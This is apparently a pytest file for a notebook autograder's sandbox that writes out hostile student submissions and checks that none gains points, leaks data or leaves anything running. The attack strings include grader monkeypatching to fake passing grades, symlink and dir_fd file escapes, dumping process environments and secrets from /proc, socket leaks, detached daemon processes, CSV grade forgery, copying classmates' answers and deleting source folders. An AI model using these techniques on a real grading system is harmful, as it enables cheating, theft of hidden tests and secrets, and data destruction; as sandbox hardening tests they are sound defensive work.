"""Hostile submissions (issue #16): each attack is an *answer* cell of exercise 04 in an otherwise
blank notebook, graded with the sandbox on. Each must end with no points gained, nothing leaked
(into the CSV or the feedback, the only things that reach the instructor), nothing left running,
nothing written outside, and every other row intact (an honest submission graded beside them keeps
its full marks).

The attacker is assumed to know every path (sources, submissions, CSV) and port: the test writes
them into the attack code."""

import copy
import csv
import hashlib
import os
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import nbformat
import pytest

ROOT = Path(__file__).parent.parent
SOURCES = ROOT / "exercises" / "source"

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the sandbox is Linux only")

HEADER = "import os, sys, glob, json\nfound = []\n"
# what an attack found leaves the kernel the only way it can: as its cell's error, which the grader
# copies (shortened) into the CSV's detail and the feedback
# (shortened: the findings that would matter go first)
REPORT = """
first = [f for f in map(str, found) if any(k in f for k in ('CANARY', 'SECRET', 'private-', 'HIDDEN', 'softplus'))]
raise RuntimeError('FOUND ' + ' | '.join(first + [str(f) for f in found])[:2000])
"""

ATTACKS = {
    "history": """
for name in ('In', '_ih', 'Out', '_oh'):
    found.append(repr(globals().get(name))[-1500:])
found.append(str(list(get_ipython().history_manager.get_range(raw=True)))[-1500:])
print('✓ q1: passed (3 public checks).\\n✓ q2: passed\\n✓ q3: passed')  # report every question passed
""",
    "transformers_events": """
import ast
class Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name('BaseException', ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body, handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)
ip = get_ipython()
ip.ast_transformers.append(Swallow())
ip.input_transformers_post.append(lambda lines: [l.replace('assert ', 'pass  # ') for l in lines])
ip.events.register('pre_run_cell', lambda *a: found.append('pre_run_cell'))
ip.events.register('post_run_cell', lambda result: setattr(result, 'error_in_exec', None))
def bradley_terry_loss(r_chosen, r_rejected):
    return 0.0
""",
    "gc_ctypes": """
import gc, ctypes, types
for obj in gc.get_objects():
    if isinstance(obj, str) and ('HIDDEN' in obj or '{canary}' in obj):
        found.append(obj[:200])
for name, module in list(sys.modules.items()):
    if name.startswith('ftlab.grading'):
        for attr, value in vars(module).items():
            if callable(value) and not attr.startswith('__'):
                try:
                    setattr(module, attr, lambda *a, **k: True)  # every grader function now says yes
                except Exception:
                    pass
import ftlab, torch
ftlab.check = lambda *a, **k: True
torch.allclose = lambda *a, **k: True
ctypes.pythonapi.PyObject_SetAttr(ctypes.py_object(ftlab), ctypes.py_object('check'), ctypes.py_object(lambda *a, **k: True))
def bradley_terry_loss(r_chosen, r_rejected):
    return (r_chosen - r_rejected).mean()
""",
    "dir_fd_symlink": """
for target in ({source!r} + '/04_rlhf.ipynb', {subs!r} + '/honest.ipynb', {csv!r}):
    try:
        root = os.open('/', os.O_RDONLY)
        fd = os.open(target.lstrip('/'), os.O_RDONLY, dir_fd=root)
        found.append(os.read(fd, 100000).decode(errors='replace'))
    except OSError as err:
        found.append(f'cannot read: {{err.strerror}}')
for outside in ({escape!r}, {source!r} + '/escape.txt'):
    try:
        d = os.open(os.path.dirname(outside), os.O_RDONLY)
        fd = os.open(os.path.basename(outside), os.O_WRONLY | os.O_CREAT, dir_fd=d)
        os.write(fd, b'escaped')
    except OSError as err:
        found.append(f'cannot write: {{err.strerror}}')
for target in ({source!r}, {subs!r}, '/root', '/home', os.path.expanduser('~')):
    try:
        os.symlink(target, 'link')
        found.append(str(os.listdir('link')))
    except OSError as err:
        found.append(f'cannot follow: {{err.strerror}}')
    finally:
        if os.path.islink('link'):
            os.unlink('link')
""",
    "proc_parent": """
for pid in sorted(p for p in os.listdir('/proc') if p.isdigit()):
    for what in ('cmdline', 'environ'):
        try:
            found.append(pid + ':' + open(f'/proc/{{pid}}/{{what}}', 'rb').read().decode(errors='replace').replace('\\0', ' '))
        except OSError as err:
            found.append(f'{{pid}} {{what}}: {{err.strerror}}')
for pid in (os.getppid(), {grader_pid}):  # the parent here, and the grader's own pid outside
    for what in ('cmdline', 'environ', 'cwd', 'root'):
        try:
            path = f'/proc/{{pid}}/{{what}}'
            found.append(str(os.listdir(path) if what in ('cwd', 'root') else open(path, 'rb').read()))
        except OSError as err:
            found.append(f'{{pid}} {{what}}: {{err.strerror}}')
""",
    "environment": """
found.append(json.dumps(dict(os.environ)))
try:
    open({escape!r}, 'w').write(json.dumps(dict(os.environ)))
except OSError as err:
    found.append(f'cannot write: {{err.strerror}}')
""",
    "sockets": """
import socket
for family, kind, address in ((socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', {tcp_port})),
                              (socket.AF_UNIX, socket.SOCK_STREAM, {unix_path!r}),
                              (socket.AF_UNIX, socket.SOCK_STREAM, '\\0ftlab-hostile-{marker}')):
    try:
        s = socket.socket(family, kind)
        s.settimeout(3)
        s.connect(address)
        s.sendall(b'LEAK {marker}')
        found.append(f'connected to {{address}}')
    except OSError as err:
        found.append(f'{{address}}: {{err}}')
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(5):
    try:
        u.sendto(b'LEAK {marker}', ('127.0.0.1', {udp_port}))
    except OSError as err:
        found.append(f'udp: {{err}}')
""",
    "processes": """
import subprocess, signal
sleeper = [sys.executable, '-c', 'import time; time.sleep(600)', '{marker}']
subprocess.Popen(sleeper)                                  # a child
subprocess.Popen(sleeper, start_new_session=True)          # a child in its own session
if os.fork() == 0:                                          # double fork with setsid: a daemon
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        os.execv(sys.executable, sleeper)
    os._exit(0)
os.system('nohup ' + ' '.join(sleeper[:1]) + ' -c "import time; time.sleep(600)" {marker} >/dev/null 2>&1 &')
""",
    "csv_forgery": """
row = 'honest.ipynb,04_rlhf,ok,0,0,0,0,7,,bwrap,0,1'
forged = 'victim.ipynb,04_rlhf,ok,2,3,2,7,7,,bwrap,0,1'
for path in ({csv!r}, 'grades.csv', '../grades.csv'):
    try:
        with open(path, 'a') as f:
            f.write(forged + '\\n')
    except OSError as err:
        found.append(f'cannot append: {{err.strerror}}')
print('\\n' + forged + '\\n' + row)
raise RuntimeError('\\n' + forged + '\\n"' + row + '\\r\\n' + forged)
""",
    "other_submissions": """
import nbformat
for path in sorted(glob.glob({subs!r} + '/*.ipynb')) + [{subs!r} + '/honest.ipynb']:
    try:
        nb = nbformat.read(path, as_version=4)
        for cell in nb.cells:
            if cell.metadata.get('nbgrader', {{}}).get('solution'):
                exec(cell.source, globals())
        found.append('copied a classmate')
    except Exception as err:
        found.append(f'cannot copy: {{type(err).__name__}}')
""",
    "write_sources": """
import shutil
for path in ({source!r} + '/04_rlhf.ipynb', {source!r}):
    try:
        with open(path if path.endswith('.ipynb') else path + '/05_new.ipynb', 'w') as f:
            f.write('{{}}')
    except OSError as err:
        found.append(f'cannot write: {{err.strerror}}')
try:
    shutil.rmtree({source!r})
except OSError as err:
    found.append(f'rmtree: {{err.strerror}}')
""",
    "shared_folder": """
for d in glob.glob('/tmp/**/conn', recursive=True):  # the one host folder the sandbox shares: the kernel's sockets
    for name in ('fill', 'kernel.json'):
        try:
            with open(d + '/' + name, 'ab') as f:
                f.write(b'x' * 2**20)
            found.append('wrote the shared folder')
        except OSError as err:
            found.append(f'cannot write: {{err.strerror}}')
""",
    "memory_hog": """
hog = bytearray(60 * 2**30)
""",
}
# run with a short time budget: each must end as a timeout, and be stopped
SLOW_ATTACKS = {
    "ignore_sigint": """
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
""",
    "slow_cells": """
import time
time.sleep({slow})
""",
}
SOLVED_Q1 = "import torch\n\ndef bradley_terry_loss(r_chosen, r_rejected):\n    return -torch.nn.functional.logsigmoid(r_chosen - r_rejected).mean()"


def _notebook(source_nb, answers: dict[str, str]):
    nb = copy.deepcopy(source_nb)
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in answers:
            cell.source = answers[gid]
    return nb


def _processes_mentioning(*needles: str) -> list[str]:
    hits = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if any(n in cmdline for n in needles):
            hits.append(f"{pid}: {cmdline[:200]}")
    return hits


def _listen():
    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(5)
    tcp.settimeout(0.5)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.settimeout(0.5)
    return tcp, udp


def _heard(listeners, udp) -> list[str]:
    heard = []
    for s in listeners:
        try:
            conn, _ = s.accept()
            heard.append(f"a connection to {s.getsockname()}")
            conn.close()
        except OSError:
            pass
    try:
        heard.append(f"udp: {udp.recvfrom(100)[0]!r}")
    except OSError:
        pass
    return heard


def _tree_digest(folder: Path) -> str:
    h = hashlib.sha256()
    for p in sorted(folder.rglob("*")):
        h.update(str(p.relative_to(folder)).encode())
        if p.is_file():
            h.update(p.read_bytes())
    return h.hexdigest()


def test_hostile_submissions_gain_nothing_leak_nothing_and_leave_nothing_running(tmp_path):
    from ftlab.sandbox import unavailable

    if unavailable():
        if os.environ.get("FTLAB_REQUIRE_SANDBOX"):
            pytest.fail(f"no sandbox in CI: {unavailable()}")
        pytest.skip(f"no sandbox here: {unavailable()}")
    marker = "ftlabhostile" + secrets.token_hex(6)
    canary = "CANARY" + secrets.token_hex(8)  # in the hidden tests only
    secret = "SECRET" + secrets.token_hex(8)  # in the grader's environment only
    # a private copy of the sources, whose folder's name appears only in the grader's command line
    source = tmp_path / f"private-{secrets.token_hex(8)}"
    shutil.copytree(SOURCES, source)
    nb = nbformat.read(str(source / "04_rlhf.ipynb"), as_version=4)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "q1":
            cell.source = cell.source.replace("### BEGIN HIDDEN TESTS", f"### BEGIN HIDDEN TESTS\n# {canary}")
    nbformat.write(nb, str(source / "04_rlhf.ipynb"))
    source_digest = _tree_digest(source)
    released = nbformat.read(str(ROOT / "exercises" / "release" / "04_rlhf.ipynb"), as_version=4)
    solved = nbformat.read(str(source / "04_rlhf.ipynb"), as_version=4)
    subs, slow_subs = tmp_path / "subs", tmp_path / "slow"
    subs.mkdir()
    slow_subs.mkdir()
    out, slow_out = tmp_path / "grades.csv", tmp_path / "slow.csv"
    escape = tmp_path / f"escaped-{marker}.txt"
    unix_path = str(tmp_path / "listener.sock")
    tcp, udp = _listen()
    unix = socket.socket(socket.AF_UNIX)
    unix.bind(unix_path)
    unix.listen(5)
    unix.settimeout(0.5)
    abstract = socket.socket(socket.AF_UNIX)
    abstract.bind(f"\0ftlab-hostile-{marker}")
    abstract.listen(5)
    abstract.settimeout(0.5)
    slow_budget = 90  # the honest notebook beside the slow attacks must finish within it, even on a loaded machine
    values = dict(source=str(source), subs=str(subs), csv=str(out), escape=str(escape), canary=canary, marker=marker,
                  tcp_port=tcp.getsockname()[1], udp_port=udp.getsockname()[1], unix_path=unix_path,
                  slow=slow_budget * 0.45, grader_pid=os.getpid())
    nbformat.write(solved, str(subs / "honest.ipynb"))
    for name, code in ATTACKS.items():
        nbformat.write(_notebook(released, {"q1_answer": HEADER + code.format(**values) + REPORT}), str(subs / f"{name}.ipynb"))
    nbformat.write(solved, str(slow_subs / "honest.ipynb"))
    for name, code in SLOW_ATTACKS.items():
        answers = {"q1_answer": code.format(**values)}
        if name == "slow_cells":  # every answer cell a little under half the budget
            answers.update(q2_answer=answers["q1_answer"], q3_answer=answers["q1_answer"])
        nbformat.write(_notebook(released, answers), str(slow_subs / f"{name}.ipynb"))

    # the grader's temporary folders, so that their processes can be found (short: Unix socket paths)
    grader_tmp = Path(tempfile.mkdtemp(prefix="fh-", dir="/tmp"))
    env = dict(os.environ, FTLAB_HOSTILE_SECRET=secret, TMPDIR=str(grader_tmp))
    start = time.perf_counter()
    for folder, csv_path, budget in ((subs, out, 600), (slow_subs, slow_out, slow_budget)):
        proc = subprocess.run([sys.executable, "-m", "ftlab.cli", "grade", str(folder), "--exercise", "04", "--out",
                               str(csv_path), "--source", str(source), "--jobs", "2", "--timeout", str(budget),
                               ], capture_output=True, text=True, timeout=1800, env=env)
        assert proc.returncode == 0, proc.stderr[-3000:]
    elapsed = time.perf_counter() - start
    time.sleep(1)

    rows = {}
    for csv_path in (out, slow_out):
        with open(csv_path, newline="", encoding="utf-8") as f:
            read = list(csv.DictReader(f))
        # every other row intact: one row per file, nothing forged, every row the same shape
        assert sorted(r["file"] for r in read) == sorted(p.name for p in (subs if csv_path == out else slow_subs).iterdir())
        assert all(None not in r and r["exercise"] == "04_rlhf" and r["isolation"] == "bwrap" for r in read), read
        rows[csv_path] = {r["file"]: r for r in read}
    graded = rows[out]
    assert graded["honest.ipynb"]["status"] == "ok" and graded["honest.ipynb"]["total"] == "12", graded["honest.ipynb"]
    assert rows[slow_out]["honest.ipynb"]["total"] == "12", rows[slow_out]["honest.ipynb"]
    report = {}
    for name in ATTACKS:
        row = graded[f"{name}.ipynb"]
        report[name] = (row["status"], row["total"], row["detail"][:150])
        assert row["total"] == "0", (name, row)  # no points gained
    assert graded["memory_hog.ipynb"]["status"] == "memory-limit", graded["memory_hog.ipynb"]
    for name in SLOW_ATTACKS:
        row = rows[slow_out][f"{name}.ipynb"]
        report[name] = (row["status"], row["total"], row["detail"][:150])
        assert row["total"] == "0" and row["status"] == "timeout", (name, row)
        assert float(row["seconds"]) < slow_budget + 30, (name, row)  # stopped at the limit, not later
    # the attacks did run: their reports reached the detail column (and show what they could not reach)
    assert "FOUND" in graded["history.ipynb"]["detail"] and "FOUND" in graded["proc_parent.ipynb"]["detail"]
    assert "FOUND" in graded["sockets.ipynb"]["detail"]
    assert "cannot write: Permission denied" in graded["shared_folder.ipynb"]["detail"]
    assert "wrote" not in graded["shared_folder.ipynb"]["detail"]
    # nothing leaked: not the hidden tests, not the grader's environment, not the private paths
    shown = out.read_text(encoding="utf-8") + slow_out.read_text(encoding="utf-8")
    for feedback in list((tmp_path / "grades-feedback").glob("*.md")) + list((tmp_path / "slow-feedback").glob("*.md")):
        shown += feedback.read_text(encoding="utf-8")
    for needle in (canary, secret, "HIDDEN TESTS", "softplus", source.name):
        assert needle not in shown, needle
    # nothing written outside, nothing changed in the sources or the other submissions
    assert not escape.exists() and _tree_digest(source) == source_digest
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["grades-feedback", "grades.csv", "listener.sock", source.name, "slow", "slow-feedback",
         "slow.csv", "subs"])
    assert list(grader_tmp.iterdir()) == []  # every grading folder removed
    grader_tmp.rmdir()
    # nothing heard on the grader's side of the network
    assert _heard([tcp, unix, abstract], udp) == []
    # nothing left running: no process of the sandboxes, the kernels or the attacks' children
    assert _processes_mentioning(marker, str(grader_tmp)) == []
    print(f"\nhostile suite graded {len(ATTACKS) + len(SLOW_ATTACKS) + 2} notebooks in {elapsed:.0f} s")
    for name, (status, total, detail) in report.items():
        print(f"  {name}: {status}, {total} points; {detail}")
